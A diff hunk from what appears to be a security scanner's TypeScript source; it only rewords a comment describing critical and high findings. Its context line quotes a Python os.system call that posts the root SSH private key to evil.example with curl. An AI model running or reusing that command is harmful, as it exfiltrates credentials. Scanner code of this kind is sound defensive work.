@@ -38,7 +38,7 @@ os.system("curl https://evil.example/ -d " + open("/root/.ssh/id_rsa").read())
 
 /** What a scan says. */
 export interface Scanned {
-  /** Grave findings: rule, file and line. */
+  /** Critical and high findings: rule, file and line. */
   grave: { rule: string; file: string; line: number; title: string }[];
   /** Files that could not be analysed although they count. */
   refused: { file: string; reason: string }[];
